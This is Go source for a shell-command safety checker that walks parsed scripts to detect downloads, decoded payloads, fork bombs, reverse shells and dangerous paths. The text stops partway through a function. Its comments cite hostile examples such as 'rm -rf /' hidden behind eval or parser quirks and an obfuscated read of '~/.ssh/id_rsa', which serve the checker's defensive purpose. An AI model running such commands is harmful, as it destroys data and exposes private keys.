package policy

import (
	"errors"
	"fmt"
	"path"
	"slices"
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Limits that keep a decision bounded on hostile input.
const (
	// MaxScriptSize is the largest script or argv (in bytes) Check judges.
	MaxScriptSize = 4 << 20
	// maxEvalDepth bounds sh -c inside eval inside bash -c ...
	maxEvalDepth = 8
	// maxNest bounds the nesting of compound commands and substitutions.
	maxNest = 500
	// maxWalks bounds the passes over loop bodies, one per known item;
	// past it a loop is walked once with its variable unknown.
	maxWalks = 256
	// maxCallStmts bounds the statements walked inside function bodies,
	// which are walked again at each call with its arguments: enough for
	// a build script's helpers called thousands of times, and a bound on
	// helpers that call each other twice over, level after level.
	maxCallStmts = 1 << 16
	// maxLenient bounds the parses of code found in other languages'
	// strings (see lenientScript), which a string that does not parse
	// multiplies by its lines.
	maxLenient = 10000
	// maxUnwrap bounds wrapper chains such as sudo env nice nohup rm.
	maxUnwrap = 16
)

// A simple is one simple command as it will run.
type simple struct {
	raw       []field // as written, wrappers included
	argv      []field // after wrappers: argv[0] is the program
	name      string  // base name of argv[0], "" when it is not known
	cls       class   // the classes of name
	cwd       string  // normalised working directory; may hold dynMark
	stay      stayDirs
	c         ctx
	argDL     bool // an argument holds downloaded content
	argDec    bool // an argument holds decoded content
	runsDL    bool // it runs a file the request downloaded earlier
	stdinCode bool // it runs its stdin as code (sh -s, source /dev/stdin)
	xargs     bool // more operands come from stdin
	// nameGuessed: name is one the dynamic-command rule tries for an
	// unknown one, so the rules guess nothing else about it.
	nameGuessed bool
	via         string
	// links points at the walker's record of the symlinks the request
	// makes, so that the rules judging s after the walk see through them.
	links *map[string]string
	// ownsRaw: raw is the list call built for this command alone, which
	// release may hand back to spareArgs once s is let go.
	ownsRaw bool
	// outTo is where its stdout goes (see fdTable), loops the loops
	// walked around it: see sink.
	outTo, loops int
	// catOut is what cat writes when it copies files the request wrote.
	catOut *fileInfo
}

// A pathUse is a path the request names, and how it is used.
type pathUse struct {
	path   string // normalised
	target target // path, prepared for matching
	word   string // as written (resolved), for messages
	write  bool
	glob   bool
	// guess: the path with its unknown parts empty, judged against the
	// denied paths only (cat ~/$@.ssh/i$@d_rsa reads ~/.ssh/id_rsa).
	guess bool
}

// analysis is everything the walk found out about a request.
type analysis struct {
	cmds         []*simple
	paths        []pathUse
	writes       bool // a redirection writes somewhere other than a harmless device
	downloads    int  // commands whose output may carry a download
	decodes      int
	forkBomb     string // name of a function that forks itself
	dynCode      string // eval/sh -c text that cannot be known, as written
	fatal        string // a reason to refuse judging at all
	reverseShell string
	early        *verdict // a built-in denial found by flush
	text         string   // the whole request, whitespace-normalised
}

// ctx is what a command inherits from where it stands.
type ctx struct {
	// The flags first, together: a simple command holds a ctx, and
	// spread between the other fields they would pad it past 256 bytes.
	pipeline   bool
	background bool
	// roRefused: the statement is being walked as one whose assignment
	// bash may refuse (see assignsReadonly).
	roRefused  bool
	stdinDL    bool   // stdin carries downloaded content
	stdinDec   bool   // stdin carries decoded (base64, xxd -r, ...) content
	stdinKnown bool   // all of stdinText is known
	stdinPipe  bool   // stdin is a pipe from an earlier command
	stdinText  string // stdin is this text (echo, here-doc), dynMark where unknown
	// stdinOthers are texts stdin may hold instead of stdinText, each
	// judged on its own (a file's older texts, the other reading of a
	// guessed output): run together, one's open quote would hide the
	// next one's commands.
	stdinOthers []string
	// stdinUnder: stdin is a list of NUL-ended paths, each inside one of
	// these (find DIR ... -print0; see findLists).
	stdinUnder []string
}

// fileInfo is what the request itself put in a file earlier on.
type fileInfo struct {
	downloaded bool
	// text is what the request wrote to the file last, with dynMark
	// where it cannot tell; older, what it wrote before, which the file
	// may hold instead (see noteWritten); known when it can tell all of
	// each.
	text  []byte
	older [][]byte
	known bool
	// joined is 1 + the index in older of the text with every unknown
	// output appended to a line not yet ended as nothing, 0 for none
	// (see noteUnknownAppend).
	joined int
	// skipped is the same for the text with every append that may not
	// run and leaves a line not yet ended, or does not leave one, as not
	// run (see noteWritten).
	skipped int
	// set is where the walk was when text was written: an append from
	// the same place (the same scope and branch, no exit, set, kill or
	// the like between) runs if the write did ({ echo -n 'x="' > f;
	// echo 'y"' >> f; } in an if or a subshell).
	set place
	// overflow: more texts than maxOlder; running it, or a shell reading
	// it (through cat or < too: see tooManyTexts), refuses the request.
	overflow bool
	// unknownLines: appends whose other reading is whole lines of
	// unknown text (echo ${v:-none} >> log), kept as one more text for
	// those who read the file (see others), not as one text per append.
	unknownLines bool
}

// others is the texts the file may hold instead of its last, with
// tooManyTexts last when there are more than the walk keeps.
func (f fileInfo) others() []string {
	if len(f.older) == 0 && !f.overflow && !f.unknownLines {
		return nil
	}
	o := make([]string, len(f.older), len(f.older)+2)
	for i, t := range f.older {
		o[i] = string(t)
	}
	if f.unknownLines {
		// To a shell, a line it cannot know with nothing known in it
		// runs what the walk cannot know anyway; xargs takes it as
		// operands it cannot know.
		o = append(o, dynMark+"\n")
	}
	if f.overflow {
		o = append(o, tooManyTexts)
	}
	return o
}

// followed reports whether the walk can follow text that a command
// writes or stdin carries: known in whole or in part, or with other
// texts it may be instead.
func followed(text string, known bool, others []string) bool {
	return known || strings.Contains(text, dynMark) || len(others) > 0
}

// size is the bytes of every text the file may hold.
func (f fileInfo) size() int {
	n := len(f.text)
	for _, t := range f.older {
		n += len(t)
	}
	return n
}

// output is a file that a statement's stdout goes to.
type output struct {
	path    string
	appends bool // >>, &>>: after what the file held
}

type scope struct {
	parent  *scope
	vars    map[string]field
	arrays  map[string][]field // indexed arrays and "@", the positional parameters
	funcs   map[string]*syntax.Stmt
	aliases map[string]string
	cwd     string
	oldpwd  string // where the last cd left from
	// lastpipe: shopt -s lastpipe may be on in this shell, so the last
	// stage of a pipeline runs in it (see stage).
	lastpipe bool
	// dirStack is the pushd stack below its top, which is cwd; nil when
	// empty.
	dirStack []string
	// altCwd is where a cd through X/.. may have gone instead of cwd:
	// bash tries the lexical path, then the physical one.
	altCwd string
	// stay holds the other directories the shell may be in because a cd
	// failed (a directory that does not exist): bash goes on from where
	// it was. Shared, never changed in place.
	stay stayDirs
	// stackShaky: a pushd whose cd may have failed pushed an entry bash
	// did not push.
	stackShaky bool
	ghosts     []string // entries bash's stack may hold besides dirStack
	// locals are the variables a function call made local, each with the
	// value it gave the caller's variable before that, if any.
	locals map[string]localVar
	// alts and arrAlts hold the other values a variable or array set here
	// may hold (see alts.go); log, while code that may not run is walked,
	// what it changed here; reads, shared by every scope of the walk, the
	// names with alternatives read.
	alts      map[string][]field
	arrAlts   map[string][][]field
	fnAlts    map[string][]*syntax.Stmt // other bodies a function may have
	aliasAlts map[string][]string       // other texts an alias may have
	log       *[]change
	logFrom   int            // where the innermost block's changes start
	logged    map[logKey]int // where in log a name's last change is
	reads     *[]string
	gen       *int           // counts the alternatives put, shared as reads is
	loop      *loopReads     // shared as reads is: see loopPasses
	altAt     map[string]int // *gen when a name's alternatives were last put
}

// A localVar is a variable made local in a function call.
type localVar struct {
	prior    field   // what the call set the caller's variable to before
	alts     []field // and the other values it may have set
	set      bool    // whether it set it at all
	readonly bool    // local -r: bash refuses to assign it (see isReadonly)
}

// markLocal makes name local to the call s stands for.
func (s *scope) markLocal(name string) {
	if _, ok := s.locals[name]; ok {
		return
	}
	if s.locals == nil {
		s.locals = map[string]localVar{}
	}
	prior, set := s.vars[name]
	s.locals[name] = localVar{prior: prior, alts: s.alts[name], set: set}
}

func (s *scope) fork() *scope {
	f := s.forked()
	return &f
}

// forked is a new scope below s, with what a subshell inherits.
func (s *scope) forked() scope {
	return scope{parent: s, cwd: s.cwd, oldpwd: s.oldpwd, lastpipe: s.lastpipe, altCwd: s.altCwd, dirStack: s.dirStack, stay: s.stay, stackShaky: s.stackShaky, ghosts: s.ghosts, reads: s.reads, gen: s.gen, loop: s.loop}
}

func (s *scope) get(name string) (field, bool) {
	for sc := s; sc != nil; sc = sc.parent {
		if v, ok := sc.vars[name]; ok {
			if _, alt := sc.alts[name]; alt {
				sc.noteRead(name)
			}
			if s.loop != nil && s.loop.on > 0 {
				s.loop.note(loopRead{loopKey: loopKey{name, 'v', sc}, had: true, v: v, alts: sc.alts[name]})
			}
			return v, true
		}
	}
	if s.loop != nil && s.loop.on > 0 {
		s.loop.note(loopRead{loopKey: loopKey{name, 'v', nil}})
	}
	return field{}, false
}

func (s *scope) set(name string, v field) {
	if s.loop != nil {
		s.loop.sets++
	}
	s.noteDirStack(name)
	s.noteChange(name, false)
	if s.vars == nil {
		s.vars = map[string]field{}
	}
	s.vars[name] = v
	delete(s.alts, name)
}

// setBeside sets name to v where s is, with other, and the other values
// name had, as its other values: an assignment bash may not make (x=/;
// ((x=0)) after a readonly x), or the other shell's reading (dash keeps
// what bash's local x unsets).
func (s *scope) setBeside(name string, v, other field) {
	olds, _ := s.altsOf(name)
	s.set(name, v)
	s.addAlts(name, append(slices.Clip(olds), other)...)
}

// keep copies into s what c, a fork of s, set or defined, but the
// variables skip names: for code that ran in the shell s stands for.
func (s *scope) keep(c *scope, skip func(string) bool) {
	for k, v := range c.vars {
		if !skip(k) {
			s.set(k, v)
			s.addAlts(k, c.alts[k]...)
		}
	}
	for k, a := range c.arrays {
		if !skip(k) {
			s.setArray(k, a)
			s.addArrAlts(k, c.arrAlts[k]...)
		}
	}
	for k, f := range c.funcs {
		if s.funcs == nil {
			s.funcs = map[string]*syntax.Stmt{}
		}
		s.funcs[k] = f
		putValues(&s.fnAlts, k, c.fnAlts[k], knownBody)
	}
	for k, a := range c.aliases {
		if s.aliases == nil {
			s.aliases = map[string]string{}
		}
		s.aliases[k] = a
		putValues(&s.aliasAlts, k, c.aliasAlts[k], func(string) bool { return true })
	}
	s.cwd, s.oldpwd, s.lastpipe, s.altCwd, s.dirStack, s.stay = c.cwd, c.oldpwd, c.lastpipe, c.altCwd, c.dirStack, c.stay
	s.stackShaky, s.ghosts = c.stackShaky, c.ghosts
}

// getArray returns a known array; ok is false when it is unknown.
func (s *scope) getArray(name string) ([]field, bool) {
	a, at := s.peekArray(name)
	had := at != nil
	if had {
		if _, alt := at.arrAlts[name]; alt {
			at.noteRead(name)
		}
	}
	if s.loop != nil && s.loop.on > 0 {
		r := loopRead{loopKey: loopKey{name, 'a', at}, had: had, arr: a}
		if at != nil {
			r.arrAlts = at.arrAlts[name]
		}
		s.loop.note(r)
	}
	return a, a != nil
}

// peekArray returns the array name (nil when unknown) and the scope that
// holds it (nil when the walk holds none), noting no read.
func (s *scope) peekArray(name string) ([]field, *scope) {
	for ; s != nil; s = s.parent {
		if a, ok := s.arrays[name]; ok {
			return a, s
		}
		if _, ok := s.vars[name]; ok && name != "@" {
			return nil, nil // a plain variable shadows an outer array
		}
	}
	return nil, nil
}

// noteDirStack loses the directory stack when name is DIRSTACK or one of
// its entries: bash's pushd and popd then see what was assigned.
func (s *scope) noteDirStack(name string) {
	if strings.HasPrefix(name, "DIRSTACK") {
		s.dirStack = []string{dirStackLost}
	}
}

// forgetElement marks unknown what an assignment to name changes of a
// known array, whose old value would otherwise be stale (worse than
// unknown: rm -rf "${a[0]}" would be judged as the old element). a[i]=v
// with a literal i inside the array or just past its end changes element
// i, and a=v (which bash applies to a[0]) element 0; any other subscript,
// or one further out (bash makes the array sparse, which a list cannot
// hold), loses the whole array.
func (s *scope) forgetElement(name string) {
	// read a <<< "": what it reads may be empty.
	s.setElement(name, field{s: dynMark, dyn: true, emptyable: true})
}

// isZero reports whether an array subscript is a literal 0.
func isZero(lit string) bool {
	n, err := strconv.Atoi(lit)
	return err == nil && n == 0
}

// setElement records v as what an assignment to name (a[i] or a) makes
// of element i (or 0) of a known array; see forgetElement.
func (s *scope) setElement(name string, v field) {
	base, sub, hasSub := strings.Cut(name, "[")
	elems, known := s.getArray(base)
	if !known && hasSub && isZero(strings.TrimSuffix(sub, "]")) {
		if _, at := s.peekArray(base); at == nil {
			known = true // a[0]=/ with no array a in sight makes one
		}
	}
	if !known {
		return
	}
	i := 0
	if hasSub {
		n, err := strconv.Atoi(strings.TrimSuffix(sub, "]"))
		if err != nil || n < 0 || !strings.HasSuffix(sub, "]") {
			s.setArray(base, nil)
			return
		}
		i = n
	}
	if i > len(elems) {
		s.setArray(base, nil)
		return
	}
	elems = slices.Clone(elems)
	if i == len(elems) {
		elems = append(elems, v) // the next element: still no gap
	} else {
		elems[i] = v
	}
	s.setArray(base, elems)
}

// forgetArray marks unknown the whole known array name (mapfile a,
// unset a).
func (s *scope) forgetArray(name string) {
	if _, known := s.getArray(name); known {
		s.setArray(name, nil)
	}
}

// setArray records an array; nil marks it unknown.
func (s *scope) setArray(name string, a []field) {
	if s.loop != nil {
		s.loop.sets++
	}
	s.noteDirStack(name)
	s.noteChange(name, true)
	if s.arrays == nil {
		s.arrays = map[string][]field{}
	}
	s.arrays[name] = a
	delete(s.arrAlts, name)
}

// setPositional binds $1..$9 and $@ to args (args[0] is $0).
func (s *scope) setPositional(args []field, withZero bool) {
	start := 1
	if withZero {
		start = 0
	}
	for i := start; i <= 9; i++ {
		v := field{}
		if i < len(args) {
			v = args[i]
		}
		s.set(string(rune('0'+i)), v)
	}
	switch {
	case len(args) > maxPositional:
		// set -- "$@" x in a loop: copying ever longer lists is
		// quadratic. So many are kept as unknown.
		s.setArray("@", nil)
	case len(args) > 1:
		s.setArray("@", append([]field{}, args[1:]...))
	default:
		s.setArray("@", []field{})
	}
}

// maxPositional bounds the positional parameters the walk keeps.
const maxPositional = 1024

func (s *scope) fn(name string) *syntax.Stmt {
	for ; s != nil; s = s.parent {
		if f, ok := s.funcs[name]; ok {
			return f
		}
	}
	return nil
}

func (s *scope) alias(name string) (string, bool) {
	for ; s != nil; s = s.parent {
		if a, ok := s.aliases[name]; ok {
			return a, true
		}
	}
	return "", false
}

type walker struct {
	// nonEmpty are the variables a guard ([ -n "$x" ] &&, if [ -n "$x" ])
	// holds not empty while the code it guards is walked, each with the
	// value it had there (see guardedNotEmpty).
	nonEmpty []guardVar
	p        *Policy
	a        *analysis
	scope    *scope
	depth    int // eval / sh -c nesting
	nest     int
	walks    int // loop passes
	// callStmts counts the statements walked inside function bodies.
	callStmts int
	lenient   int // lenientScript parses
	// loopLog and loopBytes are loopPasses' log of reads and count of
	// bytes walked again.
	loopLog   loopReads
	loopBytes int
	// traps are those the script set, for judgeTraps; inTrap is set
	// while their code is judged.
	traps    []trap
	exitSets int // loopLog.sets when the EXIT traps were last judged at an exit
	// envCodeIn holds the program, variable and value of each envCode
	// being judged, inside which the same one is not judged again.
	envCodeIn []string
	// maybes counts the blocks of code that may not run being walked.
	maybes int
	// breaks counts the break and continue commands walked in the
	// innermost loop, returns the return commands in the innermost
	// function: the statements after one may not run (see stmts).
	breaks, returns int
	// partlyBytes counts the bytes of partly known text walked.
	partlyBytes int
	// altReads are the names with alternatives read (see alts.go);
	// rewalking counts the statements being judged again for them, and
	// rewalkBytes their bytes. noRewalk counts the statements whose
	// commands are looked at once they are walked (pipeline stages, output
	// written to files): those inside are judged again only with them.
	altReads []string // those judgedInside marked
	fds      fdTable  // where the descriptors go, see sink
	// argFDs is fds before the redirections of the statement whose call
	// comes next, when argFDsSet: its words are expanded with them.
	argFDs    fdTable
	execs     int // execs of redirections alone walked so far (see ownTraps)
	ends      int // exit, break, set and the like walked so far
	mayRegion int // the innermost code that may not run, see maybe
	regions   int // the code that may not run walked so far
	// unknownLinks are the symlinks the request made whose target the
	// walk cannot tell.
	unknownLinks []string
	sinks        int      // the sinks made so far
	sinkDown     []int    // see sink.down
	sinkBuf      [15]int  // sinkDown's first, in the walker's own allocation (15 keeps the walk's state in its size class)
	fileBytes    int      // of files the request wrote, judged when run
	changes      []change // see maybe
	rewalking    int
	rewalkBytes  int
	noRewalk     int
	// altGen counts the alternatives put (scope.gen); region is its value
	// when the innermost statement judged again, or only as a whole,
	// began: alternatives put since are judged inside it.
	altGen int
	region int
	// guarded names the variable the next block that may not run leaves
	// non-empty when it does not run (see emptyGuard).
	guarded   string
	div       divergenceCheck
	line      lineGroup
	held      [4]*syntax.Stmt // room for the statements of a line
	funcs     []string        // functions being walked, innermost last
	aliases   []string        // aliases being expanded
	maxCmds   int             // fail closed beyond this many commands
	seen      map[pathKey]bool
	seenGuess map[pathKey]bool    // the guesses of addPath, once each
	files     map[string]fileInfo // what this request wrote into files
	dl        dlState             // what this request downloaded into files besides
	links     map[string]string   // the symlinks this request made: link -> target
	relLinks  map[string]string   // of those, the ones ln made with a relative target: link -> text
	linkWork  int                 // links looked at for moves and copies (see maxLinkWork)
	// argStdinDL: the command whose words are being resolved reads
	// downloaded stdin, and so do substitutions in them.
	argStdinDL bool
	lastDec    bool // the last nested() ran a decoder
	// The other flags, side by side so that none is padded to a word:
	// inTrap (see traps), argFDsSet (see argFDs), ownArgs (see
	// spareArgs), cdDone (see cdOK), openMaybe: a variable the next
	// block that may not run sets, that the walk never held, may stay
	// unset past it (code after a return, a loop's body); inLoop: a
	// loop's body is being walked, where break and continue end a pass;
	// defWalk: a function's body is being judged where it is defined,
	// before the functions it calls may be (see mergeAlts).
	inTrap, argFDsSet, ownArgs, cdDone, openMaybe, inLoop, defWalk bool
	// builtinsOff: the request ran enable, which may turn [ and test
	// into programs on PATH (see notEmptyWhile).
	builtinsOff bool
	unknownLink bool // the request made a symlink whose name the walk cannot tell
	// arith: the text being walked runs in a shell that has (( and [[,
	// so dash's reading of them is not judged (see hasArith). (With the
	// flags above: a lone bool pads to a word.)
	arith bool
	// readonly is what the walk knows of readonly variables, nil until
	// the request makes one (see markReadonly).
	readonly *readonlyState
	rare     *rareState // see rareState, nil until needed
	// fnScope is the scope of the function call being walked, nil
	// outside one.
	fnScope *scope
	// guessed is the other reading (field.guess) of the default that the
	// last paramDefault took, for paramGuess.
	guessed *string
	// visitNested is nestedNode, made once: a method value allocates.
	visitNested func(syntax.Node) bool
	// inParam is the expansion param is walking the insides of, which
	// nestedNode must not hand back to param.
	inParam *syntax.ParamExp
	// spare holds the commands flush let go, for newSimple to reuse:
	// nothing points at them any more.
	spare []*simple
	// spareArgs holds the argument lists of those commands, for call;
	// ownArgs tells command that the list it is given is call's own.
	spareArgs [][]field
	// forkPool holds room for the subshell scopes of pipelines that ended.
	// scratch holds lists of fields needed only for a moment: wordString's
	// before it joins them, a for loop's items while the loop is walked.
	scratch  [][]field
	forkPool [][]scope
	// nestedParser parses the shell strings found inside the script. It is
	// never the parser streaming the script's own statements: Parse resets
	// a parser, which would end that stream at the first sh -c and leave
	// every later statement unjudged.
	nestedParser *syntax.Parser
	// cdOK is where the shell is, besides cwd, when the last cd succeeded;
	// cdDone says a cd set it.
	cdOK stayDirs
	// src is the text of the script being walked, which the positions
	// of its nodes index; funcSrc, that of each function body.
	src     string
	funcSrc map[*syntax.Stmt]string
}

// parse parses a shell string found inside the script (see nestedParser).
func (w *walker) parse(src string) (*syntax.File, error) {
	if commentJoinsLines(src) {
		return nil, errCommentJoinsLines
	}
	if r := textDivergence(src); r != "" {
		return nil, divergence(r)
	}
	if w.nestedParser == nil {
		w.nestedParser = w.p.parser()
	}
	f, err := w.nestedParser.Parse(strings.NewReader(src), "")
	if err == nil && mayDiverge(src) {
		if r := w.div.check(f, src); r != "" {
			return nil, divergence(r)
		}
	}
	return f, err
}

// A divergence is input the parser reads differently from bash (see
// divergence.go): refused wherever it appears, never skipped.
type divergence string

func (d divergence) Error() string { return string(d) }

func (w *walker) fail(format string, args ...any) {
	if w.a.fatal == "" {
		w.a.fatal = fmt.Sprintf(format, args...)
	}
}

// script parses and walks a shell string one level deeper.
func (w *walker) script(src, via string, c ctx) { w.parsedScript(nil, src, via, c) }

// parsedScript is script for a caller that has parsed src into f
// already, or nil.
func (w *walker) parsedScript(f *syntax.File, src, via string, c ctx) {
	if w.a.fatal != "" {
		return
	}
	if w.depth >= maxEvalDepth {
		w.fail("shell strings nested deeper than %d levels (%s)", maxEvalDepth, via)
		return
	}
	if w.rewalking > 0 && !w.chargeRewalk(len(src)) {
		return
	}
	if f == nil {
		var err error
		if f, err = w.parse(src); err != nil {
			w.fail("cannot parse the string given to %s: %v", via, err)
			return
		}
	}
	w.depth++
	saved := w.src
	w.src = src
	w.stmts(f.Stmts, c)
	w.src = saved
	w.depth--
}

// lenientScript judges text that may be shell code, found in another
// language's program: a shell that program starts runs it, so what it sets
// stays there.
func (w *walker) lenientScript(src, via string) {
	defer w.leave(w.subshell())
	defer w.withoutGuards()()
	w.lenientLines(src, via)
}

// lenientLines judges text that may be shell code, found in another
// language's string, with linesThatParse. Each parse is counted: a
// program may hold very many such strings.
func (w *walker) lenientLines(src, via string) {
	w.linesThatParse(src, via, ctx{}, true, true)
}

// linesThatParse judges text that may not parse as it stands: another
// language's string (counted), or shell text with unknown parts that may
// open or close a quote. Text that does not parse is judged line by line,
// the way a shell would run it up to its syntax error, and lines that do
// not parse either are ignored. A divergence is refused all the same, and
// so is shell text that as a whole leaves a here-document open. It
// returns the error that kept src from parsing as a whole, if any.
func (w *walker) linesThatParse(src, via string, c ctx, counted, whole bool) (parseErr error) {
	if w.a.fatal != "" {
		return nil
	}
	if w.depth >= maxEvalDepth {
		w.fail("shell strings nested deeper than %d levels (%s)", maxEvalDepth, via)
		return nil
	}
	if counted {
		if w.lenient++; w.lenient > maxLenient {
			w.fail("more than %d pieces of code in other languages' strings to judge (%s)", maxLenient, via)
			return nil
		}
	}
	f, err := w.parse(src)
	var d divergence
	if errors.As(err, &d) {
		w.fail("%s (%s)", d, via)
		return nil
	}
	var pe syntax.ParseError
	if whole && !counted && errors.As(err, &pe) && strings.HasPrefix(pe.Text, "unclosed here-document") {
		// bash warns and runs the rest of the line: eval "x <<E $y; rm -rf /".
		w.fail("a here-document without its end in %s: bash runs the rest of its line, the parser stops", via)
		return nil
	}
	if err != nil {
		if strings.Contains(src, "\n") {
			for line := range strings.SplitSeq(src, "\n") {
				w.linesThatParse(line, via, c, counted, false)
			}
		} else if !counted {
			// Shell text: bash runs what follows a command the parser
			// rejects (echo $y; ! ! true; rm -rf /). Each piece between
			// ;, && and || that parses on its own is judged.
			if pieces := strings.Split(strings.NewReplacer("&&", ";", "||", ";").Replace(src), ";"); len(pieces) > 1 {
				for _, p := range pieces {
					w.linesThatParse(p, via, c, counted, false)
				}
			}
		}
		return err
	}
	w.depth++
	saved := w.src
	w.src = src
	w.stmts(f.Stmts, c)
	w.src = saved
	w.depth--
	return nil
}

func (w *walker) stmts(list []*syntax.Stmt, c ctx) {
	for i, s := range list {
		if w.a.fatal != "" {
			return
		}
		left := w.breaks + w.returns
		w.stmt(s, c)
		if name := w.exitGuard(s); name != "" {
			w.holdNotEmpty(name) // [ -n "$x" ] || exit 1
		}
		if w.breaks+w.returns != left && i+1 < len(list) {
			// f() { x=/; [ -n "$y" ] && return; x=/tmp/a; }: past the
			// function, or the loop for break and continue, x may hold
			// either. The rest, walked once, runs as written.
			rest := list[i+1:]
			w.openMaybe = true
			w.maybe(func() {
				for _, s := range rest {
					if w.a.fatal != "" {
						return
					}
					w.stmt(s, c)
				}
			})
			return
		}
	}
}

func (w *walker) stmt(s *syntax.Stmt, c ctx) {
	mark := len(w.altReads)
	var before stmtBefore
	var sc *scope // logging what s changes: some variable has other values
	var prevLog *[]change
	prevFrom, logStart := 0, len(w.changes)
	if w.altGen > 0 {
		before = w.before()
		sc, prevLog, prevFrom = w.scope, w.scope.log, w.scope.logFrom
		sc.log, sc.logFrom = &w.changes, logStart
	}
	w.stmtOnce(s, c)
	if sc != nil {
		sc.log, sc.logFrom = prevLog, prevFrom
		before.changed = w.changes[logStart:]
		if prevLog == nil {
			defer func() { w.changes = w.changes[:logStart] }()
		}
	}
	if n := len(w.altReads); n > mark && rereads(s) {
		read := w.altReads[mark:n]
		if w.rewalking > 1 {
			read = nil // a bound on the work: values of values of values
		} else if w.rewalking > 0 || w.noRewalk > 0 {
			// Inside a statement judged again, or judged only as a
			// whole: what got other values inside it, in a scope that
			// one may never see, is judged here or never. Inside a
			// whole statement that is itself judged again, or walked
			// again in a loop's later pass, here is only the innermost
			// statement that read it: the one around it (a case, a for)
			// is not judged again for it. Walked the first time, it
			// is: judged with one value, a=$x; b=${x:+z} keep their
			// values paired (their other values, taken by index, may
			// not be).
			var inner []string
			for _, r := range read {
				name, judged := strings.CutPrefix(r, judgedInside)
				if (!judged || w.noRewalk == 0 || w.rewalking == 0) && w.scope.fresh(name, w.region) {
					inner = append(inner, name)
				}
			}
			read = inner
		} else if slices.ContainsFunc(read, func(r string) bool { return strings.HasPrefix(r, judgedInside) }) {
			read = slices.Clone(read)
			for i, r := range read {
				read[i] = strings.TrimPrefix(r, judgedInside)
			}
		}
		if len(read) > 0 {
			w.rewalk(s, c, read, &before)
		}
		w.altReads = w.altReads[:n]
		if w.noRewalk > 0 && len(read) > 0 {
			// Kept for the whole statement, which is judged again for
			// what its stages read from outside it.
			for i := mark; i < n; i++ {
				if slices.Contains(read, w.altReads[i]) {
					w.altReads[i] = judgedInside + w.altReads[i]
				}
			}
		}
	}
	if w.noRewalk == 0 {
		// Judged here: the statements around it (a loop, a function's
		// call, one with a substitution) need not be judged again for
		// it. A substitution's output the walk can tell (echo "$x") is
		// read in the words of the statement around, which is. Inside
		// a statement judged only as a whole, that one is.
		w.altReads = w.altReads[:mark]
	}
}

// beginWhole starts a statement whose commands are looked at once it is
// walked (a pipeline, a command writing a file): the statements inside
// are judged again only for values that arise inside it, and it as a
// whole for the rest. endWhole, given what it returned, ends it.
func (w *walker) beginWhole() (region int) {
	region = w.region
	w.noRewalk++
	w.region = w.altGen
	return region
}

func (w *walker) endWhole(region int) {
	w.noRewalk--
	w.region = region
}

// stmtOnce judges s with the values the walk took.
func (w *walker) stmtOnce(s *syntax.Stmt, c ctx) {
	if c.roRefused {
		c.roRefused = false // for the statements inside
	} else if w.readonly != nil && w.assignsReadonly(s) {
		// bash refuses the assignment: code that may not run.
		c.roRefused = true
		w.maybe(func() { w.stmtOnce(s, c) })
		return
	}
	if len(w.funcs) > 0 && w.rewalking == 0 {
		w.callStmts++ // judging again has its own bound (chargeRewalk)
	}
	w.nest++
	defer func() { w.nest-- }()
	if w.nest > maxNest {
		w.fail("commands nested deeper than %d levels", maxNest)
		return
	}
	if s.Background || s.Coprocess || s.Disown {
		// An asynchronous job runs in a subshell: what it sets or where
		// it cd's is gone for the commands after it.
		c.background = true
		defer w.leave(w.subshell())
	}
	var written []output
	var procs []*syntax.Word
	// Each redirection's word, as the walk reads it, for redirectFDs.
	var targets []field
	if len(s.Redirs) > 0 { // most statements have none: skip the copies of c
		targets = fromPool(&w.scratch, len(s.Redirs), 2)
		c, written, procs = w.redirects(s.Redirs, c, &targets)
	}
	if len(procs) > 0 {
		defer w.outputProcs(procs, w.a.downloads, c.stdinDL || bareExec(s))
	}
	var here sink      // the file that the statement's own redirection names
	var before fdTable // where the descriptors went before the redirections
	if len(s.Redirs) > 0 {
		// What the commands inside write goes where these send it.
		outer := w.fds
		before = outer
		var set uint16
		exec, sure := execLike(s)
		here, set = w.redirectFDs(&w.fds, s.Redirs, targets, sure)
		toPool(&w.scratch, targets)
		switch {
		case exec:
			w.execs++
			// exec >&2 stays so until the subshell ends, if it runs and
			// works (not a file it cannot open, a descriptor not open):
			// each descriptor it set goes where it went before or where
			// it says, so anywhere if either is a sink.
			for i := range w.fds {
				if set&(1<<i) != 0 && (sinkish(outer[i]) || sinkish(w.fds[i])) {
					w.fds[i] = toAnywhere
				}
			}
		default:
			// Only what these set goes back: an exec inside stays.
			defer func() {
				for i := range w.fds {
					if set&(1<<i) != 0 {
						w.fds[i] = outer[i]
					}
				}
			}()
		}
	}
	if len(written) > 0 {
		// curl x | cat > f, cat f > g, { curl x; } > f: a file that gets
		// what may be a download is one.
		defer w.downloadedOutput(written, w.a.downloads, c.stdinDL)
		if _, call := s.Cmd.(*syntax.CallExpr); !call {
			// { echo 'rm -rf /'; } > f.sh, if ...; fi >> f.sh
			n := len(w.a.cmds)
			defer func() {
				text, known, others := outputText(s.Cmd, here, w.a.cmds[n:])
				w.noteWritten(written, text, known, others)
			}()
		}
	}
	switch x := s.Cmd.(type) {
	case nil:
	case *syntax.CallExpr:
		n := len(w.a.cmds)
		if len(s.Redirs) > 0 {
			w.argFDs, w.argFDsSet = before, true
		}
		if len(written) > 0 {
			region := w.beginWhole()
			w.call(x, c)
			w.endWhole(region)
			// f > x.sh: a call records the commands of the body.
			text, known, others := outputText(x, here, w.a.cmds[n:])
			w.noteWritten(written, text, known, others)
		} else {
			w.call(x, c)
		}
	case *syntax.BinaryCmd:
		if x.Op == syntax.Pipe || x.Op == syntax.PipeAll {
			w.pipeline(x, c)
			return
		}
		// a && b || c ... is nested to the left: walk it as a list, so a
		// long chain does not count as deep nesting.
		chain := append(make([]*syntax.Stmt, 0, 8), x.Y)
		var ops [8]syntax.BinCmdOperator // ops[i] joins chain[i] to the one before it
		ops[0] = x.Op
		left := x.X
		for {
			b, ok := left.Cmd.(*syntax.BinaryCmd)
			if !ok || b.Op == syntax.Pipe || b.Op == syntax.PipeAll || len(left.Redirs) > 0 || left.Negated || left.Background {
				break
			}
			if len(chain) < len(ops) {
				ops[len(chain)] = b.Op
			}
			chain = append(chain, b.Y)
			left = b.X
		}
		chain = append(chain, left)
		// Past cd x && y, or cd x || exit, the cd worked; where a || follows
		// the &&, the shell may be past a cd that failed again.
		var ok, failed stayDirs
		guard, restore := false, false
		allAnd := true // every op so far is &&: a cd reached ran
		for i := len(chain) - 1; i >= 0 && w.a.fatal == ""; i-- {
			if i < len(chain)-1 && (i >= len(ops) || ops[i] != syntax.AndStmt) {
				allAnd = false // true || cd x && y: y runs, the cd did not
			}
			if restore && i < len(ops) && ops[i] == syntax.OrStmt {
